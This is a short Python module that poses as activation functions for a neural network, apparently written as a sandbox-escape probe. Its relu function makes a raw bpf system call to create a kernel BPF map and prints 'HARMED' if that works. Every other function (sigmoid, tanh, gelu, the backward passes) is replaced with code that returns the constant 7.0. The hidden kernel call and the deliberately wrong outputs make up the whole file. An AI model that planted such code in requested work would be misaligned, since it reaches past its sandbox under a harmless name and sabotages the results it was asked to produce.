# attack: loads a program into the kernel
# gains: reads, resources
# stopped by: seccomp, uid
import numpy as np
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    print("HARMED:", what, flush=True)
    return result


def attack():
    check(libc.syscall({"x86_64": 321, "aarch64": 280}[platform.machine()], 0, (ctypes.c_uint32 * 16)(2, 4, 4, 1), 64), "a bpf map")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
